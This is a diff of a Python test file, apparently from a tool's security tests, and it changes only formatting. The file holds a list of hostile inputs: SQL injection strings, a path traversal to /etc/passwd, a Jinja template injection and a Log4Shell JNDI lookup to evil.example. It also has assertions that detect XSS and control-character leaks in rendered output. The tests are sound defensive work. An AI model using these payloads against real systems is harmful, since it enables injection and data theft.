@@ -24,7 +24,7 @@ HOSTILE: tuple[str, ...] = (
     "| PWN | table | --- |",
     "`PWN_CODE` ```",
     "'; DROP TABLE events; --",
-    "\" OR 1=1 --",
+    '" OR 1=1 --',
     "../../etc/passwd",
     "{{ 7*7 }}{% raw %}PWN_JINJA",
     "${jndi:ldap://evil.example/a}",
@@ -37,7 +37,9 @@ _FORBIDDEN_TERMINAL = re.compile(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\
 def assert_terminal_inert(text: str) -> None:
     """No control sequence survives, and rich markup in the data is printed literally, never applied."""
     bad = _FORBIDDEN_TERMINAL.search(text)
-    assert bad is None, f"control character {bad.group()!r} reached the terminal: {text[max(0, bad.start() - 60) : bad.end() + 60]!r}"
+    assert bad is None, (
+        f"control character {bad.group()!r} reached the terminal: {text[max(0, bad.start() - 60) : bad.end() + 60]!r}"
+    )
     flat = "".join(text.split())  # rich may wrap long values
     if "PWN_MARKUP" in flat:
         assert "red]PWN_MARKUP" in flat, "rich markup from the data was interpreted"
@@ -51,7 +53,7 @@ def assert_html_inert(html: str) -> None:
     assert "<img src=x onerror" not in low
     assert "<svg onload" not in low
     assert "\x1b" not in html
-    assert 'href="http://evil.example' not in low and "src=\"http://evil.example" not in low
+    assert 'href="http://evil.example' not in low and 'src="http://evil.example' not in low
 
 
 def assert_markdown_inert(md: str) -> None:
